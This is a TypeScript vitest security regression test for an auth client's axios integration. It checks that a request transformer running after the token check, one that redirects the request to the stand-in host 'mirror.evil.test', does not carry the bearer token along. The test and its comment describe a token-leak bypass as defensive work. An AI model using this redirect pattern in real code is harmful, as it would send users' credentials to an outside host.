import axios, { type AxiosRequestTransformer } from 'axios'
import { afterEach, expect, it } from 'vitest'
import { type AuthClient, createAuthClient } from '../../src/index.js'
import { API, fakeAdapter, tokens } from './axiosFake.js'

// Third review, fixed (this test failed before the fix). What the attack found:
// F3: withCheck() leaves a list that already includes checkAtSend as it is, so a transformer
// after it stays after it. axios documents extending the defaults as
// `transformRequest: [...http.defaults.transformRequest, fn]`, and http.defaults now holds
// checkAtSend: `fn` runs after the send-time check, with the config as `this`. Moving the
// request there takes the token along (README: the token is written by "a last request
// transformer").

let auth: AuthClient | undefined
afterEach(() => {
  auth?.dispose()
  auth = undefined
})

it('a transformer after the check that moves the request sends no token to the new origin', async () => {
  const fake = fakeAdapter()
  const http = axios.create({ baseURL: API, adapter: fake.adapter })
  auth = createAuthClient({ refresh: async () => tokens(2), onWarning: () => undefined })
  auth.attach(http, { attachTo: [API] })
  auth.login(tokens(1))
  await auth.ready
  const toMirror: AxiosRequestTransformer = function (data) {
    this.baseURL = 'https://mirror.evil.test' // e.g. a region/mirror router
    return data
  }
  await http.get('/me', {
    transformRequest: [...(http.defaults.transformRequest as AxiosRequestTransformer[]), toMirror],
  })
  const call = fake.calls[0]
  expect(call?.authorization).toBeUndefined()
})
